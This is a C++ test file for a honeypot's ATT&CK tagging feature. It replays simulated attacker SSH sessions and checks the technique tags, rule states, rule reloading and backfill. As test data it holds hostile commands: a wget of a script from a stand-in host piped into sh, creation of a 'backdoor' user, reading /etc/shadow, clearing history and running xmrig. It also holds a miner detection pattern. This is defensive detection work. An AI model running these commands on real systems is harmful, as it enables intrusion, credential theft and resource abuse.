// ATT&CK tagging as `decnet serve` runs it: a shell session's commands, once the session ends,
// become tags of the techniques they show (stored with their evidence, one per command and
// technique, never twice); a rule pack with a broken rule stops start-up naming the variable,
// the file and the line.
#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <vector>

#include "serve_support.h"
#include "ttp/rule_loader.h"

namespace decnet::app {
namespace {

using namespace decnet::testing;

std::string ttp_line(int second, const std::string& msgid, const std::string& sd,
                     const std::string& sid = "t1", const std::string& ip = "198.51.100.61") {
  char ts[64];
  std::snprintf(ts, sizeof ts, "2026-05-02T06:10:%02d.000000+00:00", second);
  return std::string("<134>1 ") + ts + " decky-07 ssh - " + msgid + " [relay@55555 sid=\"" + sid +
         "\" src_ip=\"" + ip + "\" " + sd + "]";
}

// A shell session from `ip` that runs `commands`, connect to disconnect.
std::string session(const std::string& sid, const std::string& ip,
                    const std::vector<std::string>& commands) {
  std::string stream = octet_frame(ttp_line(0, "connect", "", sid, ip));
  int t = 1;
  for (const auto& c : commands) {
    stream += octet_frame(ttp_line(t++, "command", "command=\"" + c + "\"", sid, ip));
  }
  return stream + octet_frame(ttp_line(t, "disconnect", "", sid, ip));
}

TEST(ServeTtp, ASessionsCommandsBecomeTagsOfTheirTechniques) {
  ServeProcess serve;
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  std::string stream;
  stream += octet_frame(ttp_line(0, "connect", ""));
  stream += octet_frame(ttp_line(1, "command", "command=\"uname -a\""));
  stream += octet_frame(ttp_line(2, "command", "command=\"wget http://x.example/x.sh -O- | sh\""));
  stream += octet_frame(ttp_line(3, "command", "command=\"useradd -m -s /bin/bash backdoor\""));
  stream += octet_frame(ttp_line(4, "command", "command=\"ls\""));
  stream += octet_frame(ttp_line(5, "disconnect", ""));
  TcpClient client(serve.tcp_port());
  ASSERT_TRUE(client.send(stream));

  // uname: T1082; the download piped into sh: T1105 and T1059.004; useradd: T1136.001.
  const auto count = [&](const std::string& where) {
    return sqlite_int(serve.db(), "SELECT COUNT(*) FROM ttp_tag WHERE " + where).value_or(-1);
  };
  ASSERT_TRUE(wait_until([&] { return count("1") == 4; })) << count("1") << serve.output();
  EXPECT_EQ(count("technique_id = 'T1082' AND sub_technique_id IS NULL"), 1);
  EXPECT_EQ(count("technique_id = 'T1105'"), 1);
  EXPECT_EQ(count("technique_id = 'T1059' AND sub_technique_id = 'T1059.004'"), 1);
  EXPECT_EQ(
      count("technique_id = 'T1136' AND sub_technique_id = 'T1136.001' AND rule_id = 'R0024'"), 1);
  // Anchored to the attacker and the session, with the command as evidence.
  const auto attacker =
      sqlite_value(serve.db(), "SELECT uuid FROM attackers WHERE ip = '198.51.100.61'");
  const auto session =
      sqlite_value(serve.db(), "SELECT uuid FROM sessions WHERE session_id = 't1'");
  ASSERT_TRUE(attacker && session);
  EXPECT_EQ(count("attacker_uuid = '" + *attacker + "' AND session_id = '" + *session + "'"), 4);
  EXPECT_EQ(sqlite_value(serve.db(),
                         "SELECT json_extract(evidence, '$.command_text') FROM ttp_tag "
                         "WHERE technique_id = 'T1136'"),
            "useradd -m -s /bin/bash backdoor");
  EXPECT_EQ(sqlite_value(serve.db(), "SELECT source_id FROM ttp_tag WHERE technique_id = 'T1136'"),
            *session + "#2");
  EXPECT_EQ(sqlite_value(serve.db(), "SELECT mitre_url FROM ttp_tag WHERE technique_id = 'T1136'"),
            "https://attack.mitre.org/techniques/T1136/001/");

  // The same over the API: per attacker and session, one technique's tags, the Navigator layer.
  const auto by_attacker = serve.api("GET", "/api/v1/ttp/by-attacker/" + *attacker);
  ASSERT_EQ(by_attacker.status, 200) << by_attacker.raw;
  ASSERT_EQ(by_attacker.body.size(), 4u) << by_attacker.raw;
  std::set<std::string> seen;
  for (const auto& row : by_attacker.body) {
    seen.insert(row["sub_technique_id"].is_null() ? row["technique_id"].get<std::string>()
                                                  : row["sub_technique_id"].get<std::string>());
    EXPECT_EQ(row["count"], 1);
  }
  EXPECT_EQ(seen, (std::set<std::string>{"T1082", "T1105", "T1059.004", "T1136.001"}));
  for (const auto& row : by_attacker.body) {
    if (row["sub_technique_id"] == "T1136.001") {
      EXPECT_EQ(row["technique_name"], "Create Account");
      EXPECT_EQ(row["sub_technique_name"], "Local Account");
    }
  }
  EXPECT_EQ(serve.api("GET", "/api/v1/ttp/techniques/T9999/groups").status, 404);
  EXPECT_EQ(serve.api("GET", "/api/v1/ttp/techniques/T1136/groups").status, 200);
  EXPECT_EQ(serve.api("GET", "/api/v1/ttp/by-session/" + *session).body.size(), 4u);
  const auto tags = serve.api("GET", "/api/v1/ttp/tags/by-attacker/" + *attacker + "/T1136");
  ASSERT_EQ(tags.status, 200) << tags.raw;
  ASSERT_EQ(tags.body.size(), 1u);
  EXPECT_EQ(tags.body[0]["evidence"]["command_text"], "useradd -m -s /bin/bash backdoor");
  EXPECT_EQ(tags.body[0]["rule_id"], "R0024");
  const auto bad_limit =
      serve.api("GET", "/api/v1/ttp/tags/by-attacker/" + *attacker + "/T1136?limit=0");
  EXPECT_EQ(bad_limit.status, 422) << bad_limit.raw;
  EXPECT_NE(bad_limit.raw.find("limit"), std::string::npos) << bad_limit.raw;
  const auto layer = serve.api("GET", "/api/v1/ttp/export/navigator");
  ASSERT_EQ(layer.status, 200);
  EXPECT_EQ(layer.body["versions"]["layer"], "4.5");
  bool sub_kept = false;
  for (const auto& t : layer.body["techniques"]) {
    sub_kept = sub_kept || (t["techniqueID"] == "T1136.001" && t["score"] == 1);
  }
  EXPECT_TRUE(sub_kept) << layer.raw;
}

// Operators' decisions change what fires: a disabled rule tags nothing, a clipped one tags at
// its ceiling, and deleting the state brings the rule back.
TEST(ServeTtp, RuleStatesChangeWhatFires) {
  ServeProcess serve;
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  const auto set = [&](const std::string& rule, const nlohmann::json& body) {
    return serve.api("POST", "/api/v1/ttp/rules/" + rule + "/state", body.dump());
  };
  const auto disabled = set("R0024", {{"state", "disabled"}, {"reason", "noisy on this fleet"}});
  ASSERT_EQ(disabled.status, 200) << disabled.raw;
  EXPECT_EQ(disabled.body["state"], "disabled");
  EXPECT_EQ(disabled.body["set_by"], "admin");
  ASSERT_EQ(set("R0012", {{"state", "clipped"}, {"confidence_max", 0.5}}).status, 200);
  // Refused with the field named; an unknown rule is not found.
  const auto no_ceiling = set("R0012", {{"state", "clipped"}});
  EXPECT_EQ(no_ceiling.status, 422);
  EXPECT_NE(no_ceiling.raw.find("confidence_max"), std::string::npos) << no_ceiling.raw;
  const auto bad_state = set("R0012", {{"state", "off"}});
  EXPECT_EQ(bad_state.status, 422);
  EXPECT_NE(bad_state.raw.find("state"), std::string::npos) << bad_state.raw;
  EXPECT_EQ(set("R9999", {{"state", "disabled"}}).status, 404);
  const auto rules = serve.api("GET", "/api/v1/ttp/rules");
  ASSERT_EQ(rules.status, 200);
  std::map<std::string, std::string> states;
  for (const auto& r : rules.body) states[r["rule_id"]] = r["state"];
  EXPECT_EQ(states["R0024"], "disabled");
  EXPECT_EQ(states["R0012"], "clipped");
  EXPECT_EQ(states["R0010"], "enabled");

  TcpClient client(serve.tcp_port());
  ASSERT_TRUE(client.send(
      session("s-off", "198.51.100.62",
              {"useradd -m -s /bin/bash backdoor", "wget http://x.example/x.sh -O- | sh"})));
  const auto count = [&](const std::string& where) {
    return sqlite_int(serve.db(), "SELECT COUNT(*) FROM ttp_tag WHERE " + where).value_or(-1);
  };
  // The download pipes into a shell: T1059.004 at its own 0.9, T1105 clipped to 0.5.
  ASSERT_TRUE(wait_until([&] { return count("1") == 2; })) << count("1") << serve.output();
  EXPECT_EQ(count("technique_id = 'T1105' AND confidence = 0.5"), 1);
  EXPECT_EQ(count("technique_id = 'T1059' AND confidence = 0.9"), 1);
  EXPECT_EQ(count("technique_id = 'T1136'"), 0);

  const auto cleared = serve.api("DELETE", "/api/v1/ttp/rules/R0024/state");
  ASSERT_EQ(cleared.status, 200) << cleared.raw;
  EXPECT_EQ(cleared.body["state"], "enabled");
  ASSERT_TRUE(client.send(session("s-on", "198.51.100.63", {"useradd -m -s /bin/bash backdoor"})));
  EXPECT_TRUE(wait_until([&] { return count("technique_id = 'T1136'") == 1; })) << serve.output();
}

// The rule directory is watched: a rule added while serving tags the next session, a broken
// file is refused (the pack in use keeps tagging), and a deleted rule stops firing.
TEST(ServeTtp, RuleFilesAreReloadedWithoutARestart) {
  TempDir rules;
  for (const auto& entry : std::filesystem::directory_iterator(
           std::filesystem::path(DECNET_SOURCE_DIR) / "rules" / "ttp")) {
    std::filesystem::copy_file(entry.path(), rules / entry.path().filename().string());
  }
  ServeProcess serve({{"DECNET_TTP_RULES_DIR", rules.path().string()}});
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  const auto count = [&](const std::string& where) {
    return sqlite_int(serve.db(), "SELECT COUNT(*) FROM ttp_tag WHERE " + where).value_or(-1);
  };
  const auto rule_count = [&] { return serve.api("GET", "/api/v1/ttp/rules").body.size(); };
  const auto write_file = [&](const std::string& name, const std::string& text) {
    // Written beside and moved in, as editors and deployment tools do.
    std::ofstream(rules / ("." + name + ".tmp")) << text;
    std::filesystem::rename(rules / ("." + name + ".tmp"), rules / name);
  };
  write_file("R0200.yaml",
             "rule_id: R0200\nrule_version: 1\nname: miner_download\napplies_to: [command]\n"
             "match:\n  pattern: '(?i)\\bxmrig\\b'\n  literals: [xmrig]\n"
             "emits: [{tactic: TA0040, technique_id: T1496, confidence: 0.8}]\n"
             "evidence_fields: [command_text]\n");
  const auto shipped = static_cast<int>(decnet::ttp::load_rule_directory(rules.path()).size()) - 1;
  const auto reloaded = [&](int n) {
    return serve.output().find("rules reloaded from " + rules.path().string() + ": " +
                               std::to_string(n) + " rules") != std::string::npos;
  };
  ASSERT_TRUE(wait_until([&] { return reloaded(shipped + 1); })) << serve.output();
  EXPECT_EQ(rule_count(), static_cast<std::size_t>(shipped + 1));
  TcpClient client(serve.tcp_port());
  ASSERT_TRUE(client.send(session("s-miner", "198.51.100.70", {"./xmrig -o pool.example:3333"})));
  ASSERT_TRUE(wait_until([&] { return count("rule_id = 'R0200'") == 1; })) << serve.output();

  // A broken file: refused with its name and ttp_line; the rules in use go on tagging.
  write_file("R0201.yaml", "rule_id: R0201\nrule_version: [\n");
  ASSERT_TRUE(wait_until([&] { return serve.output().find("R0201.yaml:") != std::string::npos; }))
      << serve.output();
  ASSERT_TRUE(client.send(session("s-miner-2", "198.51.100.71", {"xmrig --donate-level 1"})));
  ASSERT_TRUE(wait_until([&] { return count("rule_id = 'R0200'") == 2; })) << serve.output();

  std::filesystem::remove(rules / "R0201.yaml");
  std::filesystem::remove(rules / "R0200.yaml");
  ASSERT_TRUE(wait_until([&] { return reloaded(shipped); })) << serve.output();
  EXPECT_EQ(rule_count(), static_cast<std::size_t>(shipped));
  ASSERT_TRUE(client.send(session("s-miner-3", "198.51.100.72", {"xmrig -o x", "uname -a"})));
  ASSERT_TRUE(wait_until([&] {
    return count("source_id LIKE '%#1' AND technique_id = 'T1082'") == 1;
  })) << serve.output();
  EXPECT_EQ(count("rule_id = 'R0200'"), 2);
}

// What was stored before tagging ran (or while it was off) is tagged by `decnet ttp backfill`:
// --dry-run counts and writes nothing, a run writes each tag once, a second run finds nothing
// new.
TEST(ServeTtp, BackfillTagsWhatIsAlreadyStoredOnce) {
  ServeProcess serve(std::map<std::string, std::string>{{"DECNET_TTP_ENABLED", "false"}});
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  TcpClient client(serve.tcp_port());
  ASSERT_TRUE(client.send(
      session("s-old", "198.51.100.80", {"uname -a", "cat /etc/shadow", "history -c"})));
  const auto stored = [&] {
    return sqlite_int(serve.db(), "SELECT COUNT(*) FROM sessions WHERE command_count = 3")
               .value_or(0) == 1;
  };
  ASSERT_TRUE(wait_until(stored)) << serve.output();
  const auto tags = [&] {
    return sqlite_int(serve.db(), "SELECT COUNT(*) FROM ttp_tag").value_or(-1);
  };
  EXPECT_EQ(tags(), 0);
  const std::map<std::string, std::string> env = {
      {"DECNET_DATA_DIR", serve.data_dir().string()},
      {"DECNET_CONFIG", (serve.data_dir() / "none.ini").string()}};
  const auto dry = run_command({decnet_binary(), "ttp", "backfill", "--dry-run"}, env);
  ASSERT_EQ(dry.status, 0) << dry.output;
  EXPECT_NE(dry.output.find("sessions=1 commands=3 tags=3 would_insert=3 dry_run=true"),
            std::string::npos)
      << dry.output;
  EXPECT_EQ(tags(), 0);
  const auto run = run_command({decnet_binary(), "ttp", "backfill"}, env);
  ASSERT_EQ(run.status, 0) << run.output;
  EXPECT_NE(run.output.find("inserted=3 dry_run=false"), std::string::npos) << run.output;
  EXPECT_EQ(tags(), 3);
  EXPECT_EQ(sqlite_int(serve.db(),
                       "SELECT COUNT(*) FROM ttp_tag WHERE technique_id = 'T1003' "
                       "AND source_id LIKE '%#1'"),
            1);
  const auto again = run_command({decnet_binary(), "ttp", "backfill"}, env);
  EXPECT_NE(again.output.find("inserted=0"), std::string::npos) << again.output;
  EXPECT_EQ(tags(), 3);
}

TEST(ServeTtp, ABrokenRuleStopsStartUpNamingItsFileAndLine) {
  TempDir dir;
  std::filesystem::create_directories(dir / "rules");
  std::ofstream(dir / "rules" / "R0100.yaml") << "rule_id: R0100\nrule_version: 1\nname: x\n"
                                                 "applies_to: [command]\nmatch:\n"
                                                 "  pattern: '(unclosed'\n"
                                                 "emits: [{tactic: TA0002, technique_id: T1059, "
                                                 "confidence: 0.5}]\n";
  auto env = isolated_env(dir);
  env["DECNET_TTP_RULES_DIR"] = (dir / "rules").string();
  const auto r = run_command({decnet_binary(), "serve"}, env);
  EXPECT_EQ(r.status, 2) << r.output;
  EXPECT_NE(r.output.find("DECNET_TTP_RULES_DIR"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("R0100.yaml:6"), std::string::npos) << r.output;
}

}  // namespace
}  // namespace decnet::app
